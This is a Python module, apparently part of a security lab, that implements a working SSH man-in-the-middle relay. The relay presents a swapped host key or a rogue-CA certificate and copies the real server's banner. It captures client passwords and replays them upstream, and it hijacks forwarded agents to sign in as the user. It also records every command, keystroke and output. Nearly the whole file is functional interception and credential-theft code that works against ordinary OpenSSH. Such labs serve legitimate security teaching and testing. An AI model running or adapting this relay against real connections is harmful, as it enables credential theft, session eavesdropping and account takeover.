"""The SSH man in the middle: it ends the client's SSH connection with a host key of its own, opens its
own connection to the real sshd as the client, relays the session and records what it read.

- `host-key-swap`: it presents its own plain host key. A client that has never met the server (or
  accepts a new key) goes on and types its password; a client that remembers the real key sees "REMOTE
  HOST IDENTIFICATION HAS CHANGED".
- `rogue-host-ca`: it presents a host certificate for the server's name from its own SSH CA. A client
  that trusts only the lab's CA (`@cert-authority`) finds no matching CA.

Password login: the relay reads the password and logs in to the real server with it; the client is let
in only if the real server accepts it, so a typo looks the same as without the relay. Public-key login:
the relay accepts the client's key and signature (over the relay's own session), so it reads the
command; then it needs the real server to accept the same user. The client's signature covers the
relay's session identifier, not the real server's, so the replayed signature is refused ("Failed
publickey" in sshd's log) and the command never runs - unless the client forwarded its agent (`ssh
-A`): then the relay asks that agent to sign for the real server's session, as real tools do.

Traps of asyncssh avoided here (FIELD-NOTES): keys are passed as objects (given a file name it also
loads `<name>-cert.pub`), keyboard-interactive is off (it changes OpenSSH's prompt and its "Permission
denied (...)" list), and the banner is the real server's, read from it, not "AsyncSSH_2.x".
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum
from typing import Any, Final, Literal

import asyncssh
from asyncssh.public_key import decode_ssh_public_key

from lab.net import Address
from lab.ssh.keys import SshKeys

CHUNK: Final = 65536
TIMEOUT: Final = 10.0
"""Seconds for each step with the real server (connect, log in) and for the client to log in."""
VERSION_PREFIX: Final = "SSH-2.0-"


class Attack(StrEnum):
    HOST_KEY_SWAP = "host-key-swap"
    ROGUE_HOST_CA = "rogue-host-ca"


class RelayError(Exception):
    """The relay could not start: the real server is unreachable or did not speak SSH."""


# What the relay saw, per client connection (`connection` numbers them from 1).


@dataclass(frozen=True)
class ClientConnected:
    connection: int
    peer: Address


@dataclass(frozen=True)
class PasswordRead:
    connection: int
    user: str
    password: str


@dataclass(frozen=True)
class PublicKeyRead:
    """The client proved it holds this key, to the relay; the relay holds its signature too."""

    connection: int
    user: str
    key: str
    """`algorithm base64`, as in authorized_keys."""
    fingerprint: str


@dataclass(frozen=True)
class AgentUsed:
    """The client forwarded its agent; the relay asked it to sign for the real server's session."""

    connection: int
    user: str
    fingerprints: tuple[str, ...]


@dataclass(frozen=True)
class UpstreamAccepted:
    """The real server let the relay in as `user`."""

    connection: int
    user: str
    method: Literal["password", "forwarded agent"]


@dataclass(frozen=True)
class UpstreamRefused:
    """The real server did not let the relay in, or could not be reached; `reason` is asyncssh's
    account of the server's answer."""

    connection: int
    user: str
    method: Literal["password", "forwarded agent", "replayed signature"]
    reason: str


@dataclass(frozen=True)
class CommandRead:
    """The client asked for this command (None: an interactive shell)."""

    connection: int
    user: str
    command: str | None


@dataclass(frozen=True)
class InputRead:
    connection: int
    data: bytes


@dataclass(frozen=True)
class OutputRead:
    connection: int
    stream: Literal["stdout", "stderr"]
    data: bytes


@dataclass(frozen=True)
class SessionRelayed:
    """The real server ran the command through the relay and it ended with this status (None: the
    real server's connection ended without one)."""

    connection: int
    exit_status: int | None


@dataclass(frozen=True)
class ClientLeft:
    """The client's connection ended; `authenticated` False: before it logged in (a client that refused
    the relay's host key hangs up here), `reason` None: a clean close."""

    connection: int
    authenticated: bool
    reason: str | None


RelayRecord = (
    ClientConnected
    | PasswordRead
    | PublicKeyRead
    | AgentUsed
    | UpstreamAccepted
    | UpstreamRefused
    | CommandRead
    | InputRead
    | OutputRead
    | SessionRelayed
    | ClientLeft
)


async def read_banner(server: Address, timeout: float = TIMEOUT) -> str:
    """The real server's version (`OpenSSH_9.2p1 Debian-2+deb12u10`), read from its banner, which the
    relay then sends as its own."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(server.host, server.port), timeout)
    except (OSError, TimeoutError) as exc:
        raise RelayError(f"the real server {server} is unreachable: {exc}") from exc
    try:
        while True:  # RFC 4253 4.2: other lines may come before the version
            line = await asyncio.wait_for(reader.readline(), timeout)
            if not line:
                raise RelayError(f"{server} closed the connection before its SSH banner")
            text = line.decode("ascii", errors="replace").rstrip("\r\n")
            if text.startswith(VERSION_PREFIX):
                return text.removeprefix(VERSION_PREFIX)
    except TimeoutError as exc:
        raise RelayError(f"{server} sent no SSH banner within {timeout} s") from exc
    finally:
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()


class ReplayedSignature(asyncssh.SSHKeyPair):
    """A "key pair" that holds only a public key and one signature made by its owner: the best a relay
    can offer the real server for a public-key login without the owner's agent."""

    def __init__(self, key: asyncssh.SSHKey, signature: bytes) -> None:
        super().__init__(
            key.algorithm, key.algorithm, key.sig_algorithms, key.sig_algorithms, key.public_data, None
        )
        self._signature = signature

    def sign(self, data: bytes) -> bytes:
        return self._signature


class SshRelay:
    """Listens as the server, relays to `upstream` (the real sshd). `host_key` is what it presents,
    with `certificate` (`rogue-host-ca`) or without (`host-key-swap`). Every record goes to
    `self.records` and to `on_record`."""

    def __init__(
        self,
        upstream: Address,
        host_key: asyncssh.SSHKey,
        certificate: asyncssh.SSHCertificate | None = None,
        *,
        timeout: float = TIMEOUT,
        on_record: Callable[[RelayRecord], None] | None = None,
        banner: str | None = None,
    ) -> None:
        self.upstream = upstream
        self.host_key = host_key
        self.certificate = certificate
        self.timeout = timeout
        self.banner = banner
        """The real server's version, sent as the relay's own; None: read from it when first needed."""
        self.records: list[RelayRecord] = []
        self._on_record = on_record
        self._numbers = itertools.count(1)
        self._acceptor: asyncssh.SSHAcceptor | None = None
        self._connections: set[_ClientConnection] = set()

    @classmethod
    def for_attack(
        cls,
        attack: Attack,
        keys: SshKeys,
        upstream: Address,
        on_record: Callable[[RelayRecord], None] | None = None,
    ) -> SshRelay:
        key = keys.private(keys.attacker_key)
        certificate = keys.certificate(keys.attacker_certificate) if attack is Attack.ROGUE_HOST_CA else None
        return cls(upstream, key, certificate, on_record=on_record)

    def record(self, record: RelayRecord) -> None:
        self.records.append(record)
        if self._on_record is not None:
            self._on_record(record)

    async def start(self, host: str = "127.0.0.1", port: int = 0) -> int:
        """Listen on `host`:`port` (0: any free port), with the real server's banner; the bound port."""
        self._acceptor = await asyncssh.listen(host, port, **await self._options())
        return self._acceptor.get_port()

    async def serve(self, sock: socket.socket) -> asyncssh.SSHServerConnection:
        """Answer one client whose connection was accepted elsewhere (the attacker role's SSH port, which
        decides per connection whether to relay). Returns once the client has logged in; raises
        `asyncssh.Error` or `OSError` if it left before (a client that refused the host key)."""
        return await asyncssh.run_server(sock, **await self._options())

    async def _options(self) -> dict[str, Any]:
        if self.banner is None:
            self.banner = await read_banner(self.upstream, self.timeout)
        host_keys: list[asyncssh.SSHKey | tuple[asyncssh.SSHKey, asyncssh.SSHCertificate]] = [
            (self.host_key, self.certificate) if self.certificate else self.host_key
        ]
        return {
            "server_factory": self._new_connection,
            "process_factory": self._serve_process,
            "server_host_keys": host_keys,
            "server_version": self.banner,
            "encoding": None,
            "config": None,
            "agent_forwarding": True,  # accepted from the client: it lets the relay sign as the user
            "x11_forwarding": False,
            "allow_scp": False,
            "line_editor": False,  # bytes pass as they are, a pty's included
            "gss_host": None,
            "kbdint_auth": False,
            "login_timeout": self.timeout,
            "keepalive_interval": 0,
        }

    async def close(self) -> None:
        """Stop listening and end every open connection, both legs."""
        if self._acceptor is not None:
            self._acceptor.close()
            await self._acceptor.wait_closed()
            self._acceptor = None
        for connection in list(self._connections):
            connection.abort()

    def _new_connection(self) -> _ClientConnection:
        connection = _ClientConnection(self, next(self._numbers))
        self._connections.add(connection)
        return connection

    def _forget(self, connection: _ClientConnection) -> None:
        self._connections.discard(connection)

    async def _serve_process(self, process: asyncssh.SSHServerProcess[bytes]) -> None:
        owner = process.get_extra_info("connection").get_owner()
        assert isinstance(owner, _ClientConnection)
        await owner.relay(process)

    async def login(
        self, user: str, client_version: str, *, password: str | None = None, keys: list[asyncssh.SSHKeyPair]
    ) -> asyncssh.SSHClientConnection:
        """A connection to the real server, logged in as `user` with `password` or `keys`; the client's
        own banner goes upstream, so the real server sees the client's software."""
        return await asyncssh.connect(
            self.upstream.host,
            self.upstream.port,
            username=user,
            password=password,
            client_keys=keys or None,
            agent_path=None,  # never this process's own agent
            known_hosts=None,  # the attacker does not care which server it reached
            config=None,
            client_version=client_version.removeprefix(VERSION_PREFIX),
            preferred_auth="publickey" if keys else "password",
            kbdint_auth=False,
            gss_host=None,
            connect_timeout=self.timeout,
            login_timeout=self.timeout,
        )


class _ClientConnection(asyncssh.SSHServer):
    """One client's connection to the relay, and the relay's own connection upstream for it."""

    def __init__(self, relay: SshRelay, number: int) -> None:
        self._relay = relay
        self._number = number
        self._conn: asyncssh.SSHServerConnection | None = None
        self._upstream: asyncssh.SSHClientConnection | None = None
        self._user = ""
        self._signatures: dict[bytes, bytes] = {}
        self._keys: dict[bytes, asyncssh.SSHKey] = {}
        self._authenticated = False
        self._agent: asyncio.Task[bool] | None = None

    def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
        self._conn = conn
        self._keep_signatures(conn)
        self._watch_agent(conn)
        host, port = conn.get_extra_info("peername")[:2]
        self._relay.record(ClientConnected(self._number, Address(host, port)))

    def _keep_signatures(self, conn: asyncssh.SSHServerConnection) -> None:
        """asyncssh checks the client's signature without showing it to the server object: wrap the
        connection's check to keep a copy of each signature, per public key."""
        check = conn.validate_public_key

        async def keeping(username: str, key_data: bytes, msg: bytes, signature: bytes) -> bool:
            valid = await check(username, key_data, msg, signature)
            if valid and signature:
                self._signatures[key_data] = signature
            return valid

        conn.validate_public_key = keeping  # type: ignore[method-assign]

    def _watch_agent(self, conn: asyncssh.SSHServerConnection) -> None:
        """asyncssh makes the forwarded agent's socket in a task of its own, started by the client's
        request, which comes just before its command: keep that task so the relay can wait for it."""
        create = conn.create_agent_listener

        def creating() -> asyncio.Task[bool]:
            self._agent = asyncio.ensure_future(create())
            return self._agent

        conn.create_agent_listener = creating  # type: ignore[assignment,method-assign]

    def connection_lost(self, exc: Exception | None) -> None:
        self._relay.record(ClientLeft(self._number, self._authenticated, str(exc) if exc else None))
        self._close_upstream()
        self._relay._forget(self)

    def abort(self) -> None:
        if self._conn is not None:
            self._conn.abort()
        self._close_upstream()

    def _close_upstream(self) -> None:
        if self._upstream is not None:
            self._upstream.close()
            self._upstream = None

    def begin_auth(self, username: str) -> bool:
        self._user = username
        return True

    def auth_completed(self) -> None:
        self._authenticated = True

    def password_auth_supported(self) -> bool:
        return True

    def kbdint_auth_supported(self) -> bool:
        return False

    def public_key_auth_supported(self) -> bool:
        return True

    async def validate_password(self, username: str, password: str) -> bool:
        """The password is read; the client gets in if the real server takes it."""
        self._relay.record(PasswordRead(self._number, username, password))
        try:
            self._upstream = await self._relay.login(
                username, self._client_version(), password=password, keys=[]
            )
        except (OSError, TimeoutError, asyncssh.Error) as exc:
            self._relay.record(UpstreamRefused(self._number, username, "password", _reason(exc)))
            return False
        self._relay.record(UpstreamAccepted(self._number, username, "password"))
        return True

    def validate_public_key(self, username: str, key: asyncssh.SSHKey) -> bool:
        """Any key is accepted (asyncssh still checks the client's signature): the relay wants the
        command. Asked twice per key (the client's question, then its signed request): recorded once."""
        if key.public_data not in self._keys:
            self._keys[key.public_data] = key
            line = key.export_public_key("openssh").decode("ascii").split()
            self._relay.record(
                PublicKeyRead(self._number, username, f"{line[0]} {line[1]}", key.get_fingerprint())
            )
        return True

    async def relay(self, process: asyncssh.SSHServerProcess[bytes]) -> None:
        """Read the command, then run it on the real server and pass both ways, recording what passes."""
        self._relay.record(CommandRead(self._number, self._user, process.command))
        if self._upstream is None:
            self._upstream = await self._login_with_key(await self._agent_path())
        if self._upstream is None:
            self.abort()  # the client sees "Connection to ... closed by remote host."
            return
        try:
            remote = await self._upstream.create_process(
                process.command,
                encoding=None,
                term_type=process.get_terminal_type(),
                term_size=process.get_terminal_size(),
            )
        except (OSError, asyncssh.Error) as exc:
            process.stderr.write(f"{exc}\r\n".encode())
            process.exit(255)
            return
        feeding = asyncio.create_task(self._feed(process.stdin, remote.stdin))
        await asyncio.gather(
            self._pass(remote.stdout, process.stdout, "stdout"),
            self._pass(remote.stderr, process.stderr, "stderr"),
        )
        feeding.cancel()
        completed = await remote.wait()
        self._relay.record(SessionRelayed(self._number, completed.exit_status))
        if completed.exit_signal:
            signal, core_dumped, message, _ = completed.exit_signal
            process.exit_with_signal(signal, core_dumped, message)
        elif completed.exit_status is None:
            self.abort()  # the real server went away: so does the relay, as the server would have
        else:
            process.exit(completed.exit_status)

    async def _login_with_key(self, agent_path: str | None) -> asyncssh.SSHClientConnection | None:
        """After a public-key login: the real server for the same user, signed by the client's forwarded
        agent if there is one, else with the client's own signature replayed (which must fail)."""
        if agent_path is not None:
            return await self._login_with_agent(agent_path)
        replays: list[asyncssh.SSHKeyPair] = [
            ReplayedSignature(self._keys[data], signature) for data, signature in self._signatures.items()
        ]
        return await self._login(replays, "replayed signature")

    async def _login_with_agent(self, agent_path: str) -> asyncssh.SSHClientConnection | None:
        agent = await asyncssh.connect_agent(agent_path)
        try:
            keys = list(await agent.get_keys())
            self._relay.record(
                AgentUsed(self._number, self._user, tuple(key.get_fingerprint() for key in _public(keys)))
            )
            return await self._login(keys, "forwarded agent")
        finally:
            agent.close()
            await agent.wait_closed()

    async def _login(
        self, keys: list[asyncssh.SSHKeyPair], method: Literal["forwarded agent", "replayed signature"]
    ) -> asyncssh.SSHClientConnection | None:
        try:
            upstream = await self._relay.login(self._user, self._client_version(), keys=keys)
        except (OSError, TimeoutError, asyncssh.Error) as exc:
            self._relay.record(UpstreamRefused(self._number, self._user, method, _reason(exc)))
            return None
        if method == "forwarded agent":
            self._relay.record(UpstreamAccepted(self._number, self._user, method))
        return upstream

    async def _agent_path(self) -> str | None:
        """The forwarded agent's socket, None if the client did not forward its agent."""
        if self._agent is None or not await self._agent:
            return None
        assert self._conn is not None
        return self._conn.get_agent_path()

    def _client_version(self) -> str:
        assert self._conn is not None
        version: str = self._conn.get_extra_info("client_version") or ""
        return version

    async def _pass(
        self,
        source: asyncssh.SSHReader[bytes],
        target: asyncssh.SSHWriter[bytes],
        stream: Literal["stdout", "stderr"],
    ) -> None:
        with contextlib.suppress(OSError, asyncssh.Error):
            while data := await source.read(CHUNK):
                self._relay.record(OutputRead(self._number, stream, data))
                target.write(data)
            if stream == "stdout":
                target.write_eof()

    async def _feed(self, source: asyncssh.SSHReader[bytes], target: asyncssh.SSHWriter[bytes]) -> None:
        with contextlib.suppress(OSError, asyncssh.Error):
            while data := await source.read(CHUNK):
                self._relay.record(InputRead(self._number, data))
                target.write(data)
            target.write_eof()


def _public(keys: list[asyncssh.SSHKeyPair]) -> list[asyncssh.SSHKey]:
    return [decode_ssh_public_key(key.key_public_data) for key in keys]


def _reason(exc: BaseException) -> str:
    if isinstance(exc, asyncssh.Error):
        return exc.reason
    return str(exc) or type(exc).__name__
